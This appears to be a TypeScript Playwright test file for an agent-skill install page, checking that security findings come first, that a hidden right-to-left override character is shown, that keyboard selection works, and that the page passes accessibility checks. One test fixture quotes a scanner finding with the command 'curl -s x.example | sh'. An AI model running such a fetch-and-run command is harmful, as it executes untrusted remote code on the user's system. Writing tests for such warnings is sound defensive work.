/** The page of an install by itself in Chromium: what it says first, what it sends, and that everyone can use it. */
import assert from 'node:assert/strict';
import { mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Browser } from 'playwright-core';
import type { InstallShown } from '../../src/protocol/installPage.ts';
import { eventually } from '../eventually.ts';
import { sharedChromium } from '../vscode/chromium.ts';
import { resultsDir } from '../vscode/paths.ts';
import { buildView, openView, type View, type ViewBundle } from '../webview/harness.ts';
import { themeNames } from '../webview/themes.ts';

const plain: InstallShown = {
  title: 'Install agent weather?',
  from: 'From: github.com/acme/weather at 0123456, v1.2',
  description: 'Looks up the weather, and warns before a storm.',
  skills: [
    { id: 'forecast', description: 'Looks up the weather of the next days', size: '2 KB, 1 script' },
    {
      id: 'storm',
      description: 'Warns before a storm',
      size: '800 bytes',
      problem: 'It has no description.',
    },
  ],
  canChoose: true,
  samples: ['will it rain in Oslo tomorrow', 'pack for the weekend', 'is a storm coming'],
  wants: ['Hosts: api.weather.example', 'Variables: WEATHER_TOKEN'],
  findings: [],
  checked: 'Files checked: 4 of 4. The check finds only known patterns; Telos asks before anything runs.',
  notes: ['Present and not run: postinstall of package.json'],
  isRisky: false,
  actions: [
    { act: 'install', label: 'Install' },
    { act: 'try', label: 'Install and Try' },
    { act: 'files', label: 'Show Files' },
    { act: 'rename', label: 'Use Another Name...' },
    { act: 'cancel', label: 'Cancel' },
  ],
};

const risky: InstallShown = {
  ...plain,
  skills: plain.skills.slice(0, 1),
  canChoose: false,
  findings: [
    { level: 'high', text: 'high: skills/forecast/go.sh:3 runs what it downloads: curl -s x.example | sh' },
    { level: 'low', text: 'low: go.sh:9 \u202Ereaches a host that its text does not name' },
  ],
  wants: [],
  notes: [],
  isRisky: true,
  actions: [
    { act: 'files', label: 'Show Files' },
    { act: 'install', label: 'Install Anyway' },
    { act: 'cancel', label: 'Cancel' },
  ],
};

describe('the page of an install', () => {
  let browser: Browser;
  let bundle: ViewBundle;
  const views: View[] = [];

  before(async () => {
    bundle = await buildView();
    browser = await sharedChromium();
    await mkdir(resultsDir, { recursive: true });
  });

  afterEach(async () => {
    for (const { page, problems } of views.splice(0)) {
      await page.close();
      assert.deepEqual(problems, []);
    }
  });

  async function open(shown: InstallShown, options: Parameters<typeof openView>[2] = {}): Promise<View> {
    const view = await openView(browser, bundle, { entry: 'installPage', width: 700, ...options });
    views.push(view);
    await view.say({ type: 'install', shown });
    return view;
  }

  const button = (view: View, name: string) => view.page.getByRole('button', { name, exact: true });
  const press = (view: View, name: string) =>
    eventually(async () => {
      const before = (await view.answered()).length;
      await button(view, name).press('Enter');
      assert.equal((await view.answered()).length, before + 1);
    });

  it('installs the skills that are chosen, by the keyboard, and none where none is', async () => {
    const view = await open(plain);
    await view.page.getByText('Nothing suspicious was found.').waitFor();
    await view.page.getByText('“is a storm coming”').waitFor();
    const [forecast, storm] = ['forecast', 'storm'].map(name =>
      view.page.getByRole('checkbox', { name: new RegExp(`^${name}`) }),
    );
    await storm!.press('Space');
    await press(view, 'Install');
    assert.deepEqual((await view.answered()).at(-1), {
      type: 'install_act',
      act: 'install',
      skills: ['forecast'],
    });
    await forecast!.press('Space');
    await view.page.getByRole('status').getByText('Select at least one skill.').waitFor();
    for (const name of ['Install', 'Install and Try']) assert.equal(await button(view, name).count(), 0);
    assert.equal(await button(view, 'Cancel').count(), 1);
  });

  it('says first what is bad, shows what hides in it, and has a plain yes as its last button', async () => {
    const view = await open(risky);
    const headings = await view.page.getByRole('heading', { level: 2 }).allInnerTexts();
    assert.equal(headings[0], 'Findings');
    await view.page.getByText('<U+202E>').waitFor();
    const primary = await view.page.locator('button.primary').allInnerTexts();
    assert.deepEqual(primary, ['Show Files']);
    assert.equal(await view.page.getByRole('checkbox').count(), 0);
  });

  it('has nothing that axe finds fault with, in every theme, and fits into 250 pixels', async function () {
    this.timeout(5 * 60_000);
    const axe = await readFile(fileURLToPath(import.meta.resolve('axe-core/axe.min.js')), 'utf8');
    for (const [name, shown] of Object.entries({ plain, risky }))
      for (const theme of themeNames) {
        const view = await open(shown, { theme });
        await view.page.evaluate(axe);
        const findings = await view.page.evaluate(async () => {
          const { axe } = window as unknown as {
            axe: { run(): Promise<{ violations: { id: string; nodes: { html: string }[] }[] }> };
          };
          return (await axe.run()).violations.map(({ id, nodes }) => `${id} ${nodes[0]?.html}`);
        });
        await view.page.screenshot({ path: join(resultsDir, `install-${name}-${theme}.png`) });
        assert.deepEqual(findings, [], `${name}, ${theme}`);
      }
    const narrow = await open(plain, { width: 250 });
    await narrow.page.screenshot({ path: join(resultsDir, 'install-plain-250.png') });
    const wide = await narrow.page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
    assert.ok(wide <= 0, `${wide} pixels too wide`);
  });
});
